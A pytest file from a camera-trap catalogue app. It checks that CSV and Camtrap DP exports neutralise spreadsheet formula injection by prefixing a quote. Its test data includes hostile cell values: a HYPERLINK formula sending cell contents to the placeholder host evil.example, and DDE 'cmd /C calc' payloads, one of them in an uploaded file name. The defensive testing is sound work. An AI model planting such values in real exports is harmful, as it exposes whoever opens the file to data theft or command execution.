"""CSV exports neutralise text that a spreadsheet would run as a formula (issue 13)."""

import csv
import io

import pytest

from catalog.exports.camtrap_dp import camtrap_dp_write
from catalog.exports.common import ExportScope
from catalog.exports.csv_safe import spreadsheet_safe
from catalog.exports.tables import individuals_csv, sightings_csv
from catalog.models import ImportJob, SightingStatus
from tests.factories import CameraStationFactory, IndividualFactory, LocationFactory, SightingFactory

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def rows(text):
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_text_cell_that_starts_like_a_formula_gets_a_leading_quote(value):
    assert spreadsheet_safe(value) == "'" + value


def test_plain_text_and_real_numbers_are_left_as_they_are():
    assert spreadsheet_safe("Ayla") == "Ayla"
    assert spreadsheet_safe("a=b") == "a=b"  # only the first character matters
    assert spreadsheet_safe(-74.617943) == -74.617943
    assert spreadsheet_safe(-3) == -3
    assert spreadsheet_safe(None) is None


@pytest.fixture
def hostile_sighting(org_a, org_b):
    """A's sighting west of Greenwich (a negative longitude) of an individual named by a formula."""
    area = LocationFactory(name="-Area", time_zone="UTC", latitude=42.5, longitude=-74.6)
    station = CameraStationFactory(location=area, organization=org_a, code="=ST01", latitude=42.538217,
                                   longitude=-74.617943)
    cat = IndividualFactory(code="SL-0900", name=HOSTILE[0])
    return SightingFactory(organization=org_a, location=area, station=station, individual=cat,
                           status=SightingStatus.IDENTIFIED, notes="@SUM(A1:A9)", external_id="+42")


def test_sightings_csv_quotes_users_text_but_keeps_a_negative_longitude_a_number(hostile_sighting, alice):
    (row,) = rows(sightings_csv(alice, ExportScope()))
    assert row["individual_name"] == "'" + HOSTILE[0]
    assert (row["station"], row["location"], row["notes"], row["external_id"]) == ("'=ST01", "'-Area", "'@SUM(A1:A9)", "'+42")
    assert (row["latitude"], row["longitude"]) == ("42.538217", "-74.617943")


def test_another_organisations_individuals_csv_does_not_carry_the_formula(hostile_sighting, charlie):
    by_code = {r["code"]: r for r in rows(individuals_csv(charlie, ExportScope()))}
    assert by_code["SL-0900"]["name"] == "'" + HOSTILE[0]


def test_camtrap_dp_tables_quote_users_text_and_keep_coordinates_numeric(hostile_sighting, alice, tmp_path):
    camtrap_dp_write(user=alice, scope=ExportScope(), directory=tmp_path, include_media=False)
    (dep,) = rows((tmp_path / "deployments.csv").read_text())
    assert (dep["locationID"], dep["locationName"]) == ("'=ST01", "'=ST01")
    assert dep["longitude"] == "-74.617943"
    event = [r for r in rows((tmp_path / "observations.csv").read_text()) if r["observationLevel"] == "event"]
    assert event[0]["observationComments"] == "'@SUM(A1:A9)"


def test_import_report_csv_quotes_file_names_from_the_package(client, alice, org_a):
    job = ImportJob.objects.create(organization=org_a, started_by=alice, kind="zip", report=[
        {"file": "=cmd|' /C calc'!A0.jpg", "outcome": "refused", "reason": "not an image"},
        {"file": "SE01/ok.jpg", "outcome": "imported", "reason": "", "sighting": "abc"},
    ])
    client.force_login(alice)
    report = rows(client.get(f"/science/imports/{job.pk}/report.csv").content.decode())
    assert [r["file"] for r in report] == ["'=cmd|' /C calc'!A0.jpg", "SE01/ok.jpg"]
